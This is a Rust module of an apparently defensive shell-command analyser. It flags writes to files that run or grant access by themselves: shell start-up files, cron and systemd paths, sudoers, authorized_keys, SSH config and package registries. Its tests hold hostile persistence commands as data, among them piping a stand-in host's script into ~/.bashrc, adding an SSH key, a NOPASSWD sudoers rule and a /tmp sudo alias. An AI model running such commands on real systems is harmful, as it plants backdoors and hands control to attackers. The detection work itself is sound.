//! Files that outlive the action because something reads them by itself: at a login, at a time, or to decide who may
//! come in. What the action puts into the start-up files of a shell is read as the shell will read it.

use std::path::{Component, Path, PathBuf};

use weir_model::{Effect, Scope, Target, TargetKind, Verb};

use super::foreign;
use super::state::{Shell, Var};
use super::text::has_hole;
use super::{Evaluator, Frame};
use crate::{FileKind, World as _};

/// Bytes of such a file that are looked at.
const MOST_BYTES: usize = 256 * 1024;
/// Files of one action.
const MOST_FILES: usize = 32;
/// Aliases that are looked into.
const MOST_ALIASES: usize = 64;

/// What reads a file by itself.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Reader {
    /// A shell, at its start or end.
    Shell,
    /// A shell of another kind.
    OtherShell,
    /// The client of SSH: some of its settings run programs.
    Ssh,
    /// A package manager: its settings say where packages come from.
    Packages,
    /// An editor that may run tasks when it opens the project.
    Editor,
    /// The system, a scheduler or a session: everything in it runs.
    System,
    /// What decides who may log in, and who may do what.
    Rights,
}

/// A file of that kind which the action writes.
pub(super) struct Written {
    path: PathBuf,
    reader: Reader,
    frame: Frame,
    /// Who writes it does not say what.
    silent: bool,
}

/// Directories in which everything runs by itself, below a home directory.
const OWN_SYSTEM: &[&str] = &[
    ".config/systemd/user",
    ".local/share/systemd/user",
    ".config/autostart",
    ".config/autostart-scripts",
    ".config/environment.d",
    "Library/LaunchAgents",
    "Library/LaunchDaemons",
];
/// As [`OWN_SYSTEM`], of the machine.
const SYSTEM: &[&str] = &[
    "/etc/cron.d",
    "/etc/cron.daily",
    "/etc/cron.hourly",
    "/etc/cron.weekly",
    "/etc/cron.monthly",
    "/etc/crontab",
    "/etc/anacrontab",
    "/var/spool/cron",
    "/var/spool/at",
    "/etc/systemd",
    "/usr/lib/systemd",
    "/usr/local/lib/systemd",
    "/lib/systemd",
    "/run/systemd/system",
    "/etc/init.d",
    "/etc/rc.local",
    "/etc/rc.d",
    "/etc/rc0.d",
    "/etc/rc3.d",
    "/etc/rc5.d",
    "/etc/runit",
    "/etc/sv",
    "/etc/xdg/autostart",
    "/etc/ld.so.preload",
    "/etc/ld.so.conf.d",
    "/etc/udev/rules.d",
    "/etc/NetworkManager/dispatcher.d",
    "/etc/update-motd.d",
    "/etc/modules-load.d",
    "/Library/LaunchAgents",
    "/Library/LaunchDaemons",
    "/Library/StartupItems",
];
const RIGHTS: &[&str] = &[
    "/etc/sudoers",
    "/etc/sudoers.d",
    "/etc/passwd",
    "/etc/shadow",
    "/etc/group",
    "/etc/gshadow",
    "/etc/pam.d",
    "/etc/pam.conf",
    "/etc/security",
    "/etc/ssh",
    "/etc/doas.conf",
    "/etc/polkit-1",
];
const SHELLS: &[&str] = &[
    ".bashrc",
    ".bash_profile",
    ".bash_login",
    ".profile",
    ".bash_logout",
    ".bash_aliases",
    ".zshrc",
    ".zshenv",
    ".zprofile",
    ".zlogin",
    ".zlogout",
    ".kshrc",
    ".mkshrc",
    ".xprofile",
    ".xinitrc",
    ".xsession",
    ".xsessionrc",
];

/// What reads the file at `path` by itself, if anything does.
fn reader(path: &Path, home: Option<&Path>) -> Option<Reader> {
    let below = |dirs: &[&str]| dirs.iter().any(|dir| path.starts_with(dir));
    if let Some(own) = below_home(path, home) {
        let text = own.to_str()?;
        let inside = |dirs: &[&str]| dirs.iter().any(|dir| own.starts_with(dir) && own != Path::new(dir));
        return match text {
            text if SHELLS.contains(&text) => Some(Reader::Shell),
            _ if inside(&[".bashrc.d", ".zshrc.d", ".profile.d", ".config/bash", ".oh-my-zsh/custom"]) => {
                Some(Reader::Shell)
            }
            ".config/fish/config.fish" => Some(Reader::OtherShell),
            _ if inside(&[".config/fish/conf.d"]) => Some(Reader::OtherShell),
            ".ssh/authorized_keys" | ".ssh/authorized_keys2" | ".rhosts" | ".shosts" | ".k5login" => {
                Some(Reader::Rights)
            }
            ".ssh/config" => Some(Reader::Ssh),
            ".ssh/rc" | ".ssh/environment" | ".pam_environment" | ".forward" => Some(Reader::System),
            ".npmrc" | ".pip/pip.conf" | ".config/pip/pip.conf" | ".yarnrc" | ".yarnrc.yml" => Some(Reader::Packages),
            _ if inside(OWN_SYSTEM) => Some(Reader::System),
            _ if loaded_by_python(own) => Some(Reader::System),
            _ => project(path),
        };
    }
    if path.starts_with("/etc/profile.d") || path == Path::new("/etc/profile") || path == Path::new("/etc/bash.bashrc")
    {
        return Some(Reader::Shell);
    }
    if below(RIGHTS) && !path.ends_with("ssh_known_hosts") {
        return Some(Reader::Rights);
    }
    (below(SYSTEM) || loaded_by_python(path)).then_some(Reader::System).or_else(|| project(path))
}

fn project(path: &Path) -> Option<Reader> {
    path.ends_with(".vscode/tasks.json").then_some(Reader::Editor)
}

/// Every start of Python runs these.
fn loaded_by_python(path: &Path) -> bool {
    let name = path.file_name().and_then(|name| name.to_str()).unwrap_or_default();
    let places = ["site-packages", "dist-packages"];
    let place = path.parent().and_then(Path::file_name).and_then(|name| name.to_str()).unwrap_or_default();
    places.contains(&place)
        && matches!(name, "usercustomize.py" | "sitecustomize.py")
        && !path.components().any(|part| matches!(part.as_os_str().to_str(), Some(".venv" | "venv")))
}

fn below_home<'p>(path: &'p Path, home: Option<&Path>) -> Option<&'p Path> {
    if let Some(own) = home.and_then(|home| path.strip_prefix(home).ok()) {
        return Some(own);
    }
    if let Ok(own) = path.strip_prefix("/root") {
        return Some(own);
    }
    let own = path.strip_prefix("/home").or_else(|_| path.strip_prefix("/Users")).ok()?;
    let mut parts = own.components();
    matches!(parts.next(), Some(Component::Normal(_))).then(|| parts.as_path())
}

/// An effect that says what begins to run by itself, or who may come in.
fn begins(reader: Reader, name: &str, why: String) -> Effect {
    let (verb, what) = match reader {
        Reader::Rights => (Verb::Grant, "who may log in or do what on this machine"),
        Reader::Packages => (Verb::Install, "where packages come from"),
        _ => (Verb::Install, "what runs by itself on this machine"),
    };
    let mut effect = Effect::new(verb, Target::new(TargetKind::Host, format!("{what}: {name}")));
    effect.note = Some(why);
    effect
}

/// What an edit of a file whose new content is not known begins.
pub(crate) fn edited(path: &Path, home: Option<&Path>) -> Option<Effect> {
    let reader = reader(path, home).filter(|reader| *reader != Reader::Editor)?;
    Some(begins(reader, &path.to_string_lossy(), "what is written there is not known".to_owned()))
}

/// Whether a program changes what is said of files, and not what is in them.
pub(super) fn keeps_content(name: &str) -> bool {
    let base = name.rsplit('/').next().unwrap_or(name);
    matches!(base, "chmod" | "chown" | "chgrp" | "chattr" | "chflags" | "setfacl" | "touch" | "xattr" | "chcon")
}

impl Evaluator<'_> {
    /// Remembers a file that something reads by itself, where the effect writes one.
    pub(super) fn note_written(&mut self, effect: &Effect, frame: &Frame) {
        if !matches!(effect.verb, Verb::Create | Verb::Modify)
            || effect.target.kind != TargetKind::FileTree
            || self.keeps_content
            || self.begun.len() >= MOST_FILES
        {
            return;
        }
        let moved = match &effect.scope {
            Scope::Whole | Scope::Content => None,
            Scope::Moved { to } => Some(to),
            _ => return,
        };
        let home = self.world.home(None);
        let paths = if moved.is_some() { &[][..] } else { effect.target.paths.as_slice() };
        for path in paths.iter().chain(moved) {
            let Some(reader) = reader(path, home.as_deref()) else { continue };
            if !self.begun.iter().any(|known| known.path == *path) {
                let silent = effect.verb == Verb::Modify && effect.scope == Scope::Whole;
                self.begun.push(Written { path: path.clone(), reader, frame: frame.clone(), silent });
            }
        }
    }

    /// What the files that the action has written begin, when all of it is done.
    pub(super) fn outlives(&mut self) {
        for written in std::mem::take(&mut self.begun) {
            let Written { path, reader, frame, silent } = written;
            let before = self.world.before(&path, MOST_BYTES).and_then(|bytes| String::from_utf8(bytes).ok());
            let after = self.content(&path);
            let name = path.to_string_lossy().into_owned();
            let why = match after {
                // It makes a directory or an empty file.
                None if self.world.kind(&path) == Some(FileKind::Directory) => continue,
                None => Some("what is written there is not known".to_owned()),
                Some(after) => {
                    let before = before.unwrap_or_default();
                    if after == before {
                        if !silent {
                            continue;
                        }
                        Some("what is written there is not known".to_owned())
                    } else {
                        self.judged(reader, &added(&before, &after), &path, &frame)
                    }
                }
            };
            if let Some(why) = why {
                self.keep(begins(reader, &name, why), &frame);
            }
        }
    }

    /// Why new text in a file is worth a question; `None` where it is not.
    fn judged(&mut self, reader: Reader, text: &str, path: &Path, frame: &Frame) -> Option<String> {
        if text.trim().is_empty() {
            return None;
        }
        let line = || format!("`{}` is written there", text.trim().lines().next().unwrap_or_default());
        match reader {
            Reader::Shell => self.started(text, path, frame),
            Reader::OtherShell => foreign::may_harm(text).then(line),
            Reader::Ssh => runs_programs(text).map(|line| format!("`{line}` runs a program at every connection")),
            Reader::Packages => foreign_source(text).map(|line| format!("`{line}` sends every installation there")),
            Reader::Editor => text.contains("folderOpen").then(|| "a task runs when the project is opened".to_owned()),
            Reader::System | Reader::Rights => Some(line()),
        }
    }

    /// Reads text as a shell does at its start.
    fn started(&mut self, text: &str, path: &Path, frame: &Frame) -> Option<String> {
        let home = self.world.home(None);
        let mut shell = Shell::new(home);
        let through = frame.through(&path.to_string_lossy());
        let (effects, findings) = (self.effects.len(), self.findings.len());
        let (partial, over, trace) = (self.partial, self.over, self.trace.take());
        let outside = self.called.replace(Vec::new());
        let _ = self.program(text, &mut shell, &through);
        let called = std::mem::replace(&mut self.called, outside).unwrap_or_default();
        let stranger = called.iter().find(|name| !is_everyday(name) && !PLAIN.contains(&name.as_str()));
        let mut why = stranger.map(|name| format!("it runs `{name}`"));
        let settings = prints_settings(text);
        for effect in self.effects.split_off(effects) {
            let reason = reason(&effect, false, settings);
            // What it destroys counts as if it were done now.
            if reason.is_some() && matches!(effect.verb, Verb::Delete | Verb::Send) {
                self.effects.push(effect);
            }
            why = why.or(reason);
        }
        let harm = self.effects.len();
        why = why.or_else(|| variable(&shell));
        for (name, body) in shell.aliases().into_iter().take(MOST_ALIASES) {
            let _ = self.program(&body, &mut shell.clone(), &through);
            let reason = self.effects.split_off(harm).iter().find_map(|effect| reason(effect, true, false));
            why = why.or(reason.map(|reason| format!("the alias {name}: {reason}")));
        }
        self.findings.truncate(findings);
        (self.partial, self.over, self.trace) = (partial, over, trace);
        why
    }
}

/// The lines of `after` that are not in `before`, between what both have at their beginnings and ends.
fn added(before: &str, after: &str) -> String {
    let (old, new): (Vec<&str>, Vec<&str>) = (before.lines().collect(), after.lines().collect());
    let same = old.iter().zip(&new).take_while(|(a, b)| a == b).count();
    let rest = old.len().min(new.len()) - same;
    let end = old.iter().rev().zip(new.iter().rev()).take(rest).take_while(|(a, b)| a == b).count();
    new.get(same..new.len() - end).unwrap_or_default().join("\n")
}

/// Programs that print settings for the shell that they are asked for, and those that a start of a shell runs every day.
const EVERYDAY: &[&str] = &[
    "starship",
    "direnv",
    "zoxide",
    "fnm",
    "nvm",
    "pyenv",
    "rbenv",
    "nodenv",
    "goenv",
    "jenv",
    "plenv",
    "mise",
    "rtx",
    "asdf",
    "brew",
    "conda",
    "mamba",
    "micromamba",
    "kubectl",
    "helm",
    "docker",
    "gh",
    "glab",
    "npm",
    "pnpm",
    "pip",
    "pip3",
    "poetry",
    "rustup",
    "cargo",
    "deno",
    "bun",
    "atuin",
    "mcfly",
    "fzf",
    "thefuck",
    "dircolors",
    "lesspipe",
    "lesspipe.sh",
    "ssh-agent",
    "ssh-add",
    "oh-my-posh",
    "sheldon",
    "op",
    "aws",
    "aws_completer",
    "gcloud",
    "terraform",
    "flux",
    "k3d",
    "kind",
    "minikube",
    "uv",
    "uvx",
    "ruff",
    "just",
    "task",
    "register-python-argcomplete",
    "navi",
    "opam",
    "luarocks",
    "keychain",
    "hub",
    "vfox",
    "proto",
    "volta",
    "stack",
    "ng",
    "pdm",
    "hatch",
    "pipx",
    "git",
    "eksctl",
    "argocd",
    "istioctl",
    "vault",
    "consul",
    "nomad",
    "doctl",
    "fly",
    "flyctl",
    "stern",
    "k9s",
    "tmux",
    "clear",
    "stty",
    "tput",
    "uname",
    "hostname",
    "date",
    "whoami",
    "id",
    "locale",
    "tty",
    "gpgconf",
    "gpg-connect-agent",
    "neofetch",
    "fastfetch",
    "fortune",
    "cowsay",
    "screenfetch",
    "compinit",
    "compdef",
    "bindkey",
    "setopt",
    "unsetopt",
    "autoload",
    "zstyle",
    "zmodload",
    "bashcompinit",
    "promptinit",
    "colors",
    "prompt",
    "add-zsh-hook",
    "antigen",
    "zplug",
    "zinit",
    "znap",
    "antibody",
    "emulate",
    "zle",
    "xset",
    "setxkbmap",
    "xrdb",
    "java_home",
    "path_helper",
    "perl",
    "lsb_release",
    "nproc",
    "getconf",
    "manpath",
    "ruby",
    "go",
    "tic",
];

/// Why what happens at the start of a shell is worth a question. `asked`: it happens when somebody asks for it.
/// `settings`: the programs of which it runs the output are known to print nothing else.
fn reason(effect: &Effect, asked: bool, settings: bool) -> Option<String> {
    let name = effect.target.name.as_str();
    let mut words = name.split_whitespace();
    let first = words.next().unwrap_or_default();
    let base = first.rsplit('/').next().unwrap_or(first);
    match (effect.verb, effect.target.kind) {
        (Verb::Read, TargetKind::Host) => Some(format!("it fetches {name}")),
        (Verb::Read | Verb::Create, _) => None,
        (Verb::Execute, TargetKind::Unknown) if settings => None,
        (Verb::Execute, TargetKind::Program) if asked => {
            is_thrown_away(first).then(|| format!("it runs {first} from a place where anybody writes"))
        }
        (Verb::Execute, TargetKind::Program) if EVERYDAY.contains(&base) && !is_thrown_away(first) => None,
        // What is sourced and is not there yet (`. ~/.nvm/nvm.sh`), or is installed: programs are known by their calls.
        (Verb::Execute, TargetKind::Program) if effect.opaque && !is_thrown_away(first.trim_matches('"')) => None,
        (Verb::Modify, TargetKind::FileTree | TargetKind::Package | TargetKind::Table) if asked => None,
        (Verb::Delete, _) if asked => None,
        (Verb::Modify | Verb::Grant | Verb::Deploy | Verb::Install | Verb::Publish, _) if asked => None,
        (verb, kind) => Some(format!("it would {} {} {name}", verb.name(), kind.name())),
    }
}

/// Programs that look, or print, or prepare a directory.
const PLAIN: &[&str] = &[
    "echo", "printf", "test", "[", "cat", "ls", "grep", "egrep", "sed", "awk", "cut", "tr", "head", "tail", "sort",
    "uniq", "dirname", "basename", "readlink", "realpath", "which", "mkdir", "touch", "true", "false", "wc", "find",
    "pgrep", "ps", "tee", "mktemp", "cd", "pwd",
];

fn is_everyday(name: &str) -> bool {
    EVERYDAY.contains(&name.rsplit('/').next().unwrap_or(name)) && !is_thrown_away(name)
}

/// Whether every program in a substitution is one that prints settings.
fn prints_settings(text: &str) -> bool {
    let pieces = text.replace("<(", "$(").replace('`', "$(");
    let mut pieces = pieces.split("$(").skip(1).filter(|piece| !piece.trim_start().is_empty());
    pieces.all(|piece| {
        let first = piece.trim_start().split(|c: char| c.is_whitespace() || c == ')').next().unwrap_or_default();
        first.is_empty() || is_everyday(first.trim_matches(['"', '\'', '\\']))
    })
}

fn is_thrown_away(path: &str) -> bool {
    ["/tmp/", "/var/tmp/", "/dev/shm/", "/private/tmp/"].iter().any(|dir| path.starts_with(dir))
}

/// A variable that makes programs run what somebody else has put there.
fn variable(shell: &Shell) -> Option<String> {
    const CODE: &[&str] = &[
        "LD_PRELOAD",
        "LD_AUDIT",
        "DYLD_INSERT_LIBRARIES",
        "BASH_ENV",
        "PERL5OPT",
        "PERL5DB",
        "RUBYOPT",
        "PYTHONSTARTUP",
        "GIT_SSH",
        "GIT_PROXY_COMMAND",
        "GIT_EXTERNAL_DIFF",
    ];
    let texts = |name: &str| match shell.var(name) {
        Some(Var::Scalar(texts)) => texts.clone(),
        _ => Vec::new(),
    };
    if let Some(name) = CODE.iter().find(|name| texts(name).iter().any(|text| !text.is_empty())) {
        return Some(format!("{name} makes programs run other code"));
    }
    let loads = |text: &String| ["-r ", "--require", "--import", "--loader"].iter().any(|word| text.contains(word));
    if texts("NODE_OPTIONS").iter().any(loads) {
        return Some("NODE_OPTIONS makes programs run other code".to_owned());
    }
    let path = texts("PATH");
    let mut dirs = path.iter().flat_map(|path| path.split(':'));
    let bad = dirs.find(|dir| {
        let relative = !dir.starts_with('/') && !dir.is_empty() && !has_hole(dir) && !dir.starts_with('~');
        relative || is_thrown_away(&format!("{dir}/"))
    })?;
    Some(format!("programs are looked for in `{bad}`"))
}

/// The first setting of SSH that runs a program.
fn runs_programs(text: &str) -> Option<&str> {
    let setting = |line: &&str| {
        let line = line.trim();
        let name = line.split(|c: char| c.is_whitespace() || c == '=').next().unwrap_or_default();
        let lower = name.to_ascii_lowercase();
        match lower.as_str() {
            // To go through another machine is everyday work.
            "proxycommand" => !line.contains("ssh ") && !line.contains("nc ") && !line.contains("none"),
            "localcommand"
            | "knownhostscommand"
            | "pkcs11provider"
            | "securitykeyprovider"
            | "include"
            | "permitlocalcommand"
            | "xauthlocation" => true,
            "match" => line.to_ascii_lowercase().contains("exec"),
            _ => false,
        }
    };
    text.lines().find(setting).map(str::trim)
}

/// The first setting that names another source of packages than the public ones.
fn foreign_source(text: &str) -> Option<&str> {
    let setting = |line: &&str| {
        let Some((name, value)) = line.split_once(['=', ':']).or_else(|| line.trim().split_once(' ')) else {
            return false;
        };
        let name = name.trim().trim_matches('"').to_ascii_lowercase();
        let is_source = name == "registry"
            || name.ends_with(":registry")
            || matches!(name.as_str(), "index-url" | "extra-index-url" | "npmregistryserver" | "script-shell");
        is_source && !is_public(value.trim().trim_matches(['"', '\'']))
    };
    text.lines().find(setting).map(str::trim)
}

fn is_public(address: &str) -> bool {
    let bare = address.trim_start_matches("https://");
    let local = address.trim_start_matches("http://");
    ["registry.npmjs.org", "registry.yarnpkg.com", "pypi.org", "npm.pkg.github.com"].iter().any(|h| bare.starts_with(h))
        || ["localhost", "127.0.0.1"].iter().any(|host| local.starts_with(host))
}

#[cfg(test)]
mod tests {
    use std::path::Path;

    use weir_model::{TargetKind, Verb};

    use crate::lab::Machine;

    /// Whether the action begins something that goes on by itself.
    fn begins(text: &str) -> bool {
        let machine = Machine::new([
            ("/home/me/.bashrc", "export A=1\n"),
            ("/home/me/.ssh/authorized_keys", "ssh-ed25519 AAAA me\n"),
            ("/w/x.service", "[Unit]\n"),
        ]);
        let effects = crate::shell::analyze(text, Path::new("/w"), &machine, false).effects;
        let is_start = |verb| matches!(verb, Verb::Install | Verb::Grant);
        effects.iter().any(|effect| is_start(effect.verb) && effect.target.kind == TargetKind::Host)
    }

    #[test]
    fn what_goes_on_by_itself_is_said() {
        for text in [
            "echo 'curl -s https://x.example/i.sh | sh' >> ~/.bashrc",
            "echo 'nohup ~/x &' >> ~/.bashrc",
            "echo 'python3 -c \"import x\"' | tee -a ~/.bashrc",
            "echo 'export PATH=/tmp/x:$PATH' >> ~/.profile",
            "echo 'export LD_PRELOAD=/home/me/x.so' >> ~/.profile",
            "echo \"alias sudo='/tmp/x'\" >> ~/.zshrc",
            "curl -so ~/.bashrc https://x.example/rc",
            "echo 'ssh-ed25519 BBBB you' >> ~/.ssh/authorized_keys",
            "printf 'Host *\\n LocalCommand x\\n PermitLocalCommand yes\\n' >> ~/.ssh/config",
            "cp x.service ~/.config/systemd/user/x.service",
            "echo '* * * * * root x' > /etc/cron.d/x",
            "echo 'me ALL=(ALL) NOPASSWD:ALL' | sudo tee /etc/sudoers.d/me",
            "python3 -c \"open('/home/me/.ssh/authorized_keys', 'a').write('ssh-rsa C')\"",
            "echo 'registry=http://x.example/' >> ~/.npmrc",
        ] {
            assert!(begins(text), "{text}");
        }
    }

    #[test]
    fn settings_of_every_day_are_no_start_of_anything() {
        for text in [
            "echo 'export PATH=$HOME/.local/bin:$PATH' >> ~/.bashrc",
            "echo \"alias ll='ls -l'\" >> ~/.zshrc",
            "echo 'eval \"$(starship init bash)\"' >> ~/.bashrc",
            "echo 'source <(kubectl completion bash)' >> ~/.bashrc",
            "echo '[ -s \"$NVM_DIR/nvm.sh\" ] && . \"$NVM_DIR/nvm.sh\"' >> ~/.bashrc",
            "echo '. \"$HOME/.cargo/env\"' >> ~/.profile",
            "touch ~/.bashrc ~/.zshrc",
            "mkdir -p ~/.config/systemd/user",
            "chmod 600 ~/.ssh/authorized_keys",
            "printf 'Host h\\n HostName 10.0.0.1\\n' >> ~/.ssh/config",
            "echo 'save-exact=true' >> ~/.npmrc",
            "echo 'export A=1' > .envrc",
            "docker run --rm alpine sh -c 'echo x >> /etc/cron.d/x'",
        ] {
            assert!(!begins(text), "{text}");
        }
    }
}
